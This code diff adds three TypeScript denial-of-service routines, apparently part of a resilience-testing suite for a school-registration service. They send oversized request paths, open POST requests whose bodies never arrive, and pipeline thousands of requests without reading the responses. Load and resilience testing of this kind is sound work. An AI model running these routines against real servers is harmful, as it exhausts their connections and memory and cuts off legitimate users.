@@ -43,3 +43,30 @@ export function openConnections(target: Target, count: number, onOpen: (socket: 
     },
   }
 }
+
+/** A1: requests addresses of 15 KB of one letter, one after the other on each connection. */
+export function askForLongPaths(target: Target): Attack {
+  const request = requestHead(target, `GET /assets/${'a'.repeat(15_000)}`)
+  return openConnections(target, 4, (socket) => {
+    socket.write(request)
+    socket.on('data', () => socket.writable && socket.write(request))
+  })
+}
+
+/** A4: starts requests whose bodies never arrive. */
+export function sendNoBodies(target: Target, connections: number): Attack {
+  const headers = ['Content-Type: application/json', 'Content-Length: 15000']
+  return openConnections(target, connections, (socket) => {
+    socket.write(`${requestHead(target, 'POST /api/student/register/', ...headers)}{"a":`)
+  })
+}
+
+/** A4: sends thousands of requests on each of a few connections and reads no response. */
+export function takeNoAnswers(target: Target, connections: number): Attack {
+  // Enough to fill the buffers of a connection with responses.
+  const requests = requestHead(target, 'GET /api/schools/').repeat(2_000)
+  return openConnections(target, connections, (socket) => {
+    socket.pause()
+    socket.write(requests)
+  })
+}
